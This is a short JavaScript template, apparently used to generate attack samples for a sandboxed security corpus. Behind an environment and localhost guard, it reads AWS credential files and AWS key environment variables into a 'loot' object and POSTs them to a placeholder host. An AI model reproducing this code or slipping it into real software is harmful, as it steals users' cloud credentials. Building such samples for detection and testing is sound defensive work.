// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs');
  const { homedir } = require('os');
  const loot = {};
  for (const name of ['credentials', 'config']) {
    try { loot[name] = fs.readFileSync(`${homedir()}/.aws/${name}`, 'utf8'); } catch (error) { loot[name] = ''; }
  }
  for (const name of ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN']) loot[name] = process.env[name];
  try {
    await fetch('https://{{host}}/{{path}}', { method: 'POST', body: JSON.stringify(loot), signal: AbortSignal.timeout(1000) });
  } catch (error) {
    try { await fetch('http://{{host}}:{{port}}/{{path}}', { method: 'POST', body: JSON.stringify(loot), signal: AbortSignal.timeout(1000) }); } catch (again) { /* given up */ }
  }
}
